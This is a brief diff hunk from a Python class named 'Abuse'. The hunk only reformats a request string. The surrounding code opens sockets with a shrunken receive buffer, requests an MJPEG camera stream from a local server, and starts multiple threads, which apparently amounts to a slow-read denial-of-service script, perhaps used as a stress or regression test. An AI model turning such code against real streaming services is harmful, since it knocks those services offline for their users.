@@ -302,7 +302,8 @@ class Abuse:
             s = self._connect()
             s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
             s.sendall(
-                f"GET /api/sources/cam/stream.mjpeg?token={TOKEN} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
+                f"GET /api/sources/cam/stream.mjpeg?token={TOKEN} HTTP/1.1\r\n"
+                "Host: 127.0.0.1\r\n\r\n".encode()
             )
         for t in self.threads:
             t.start()
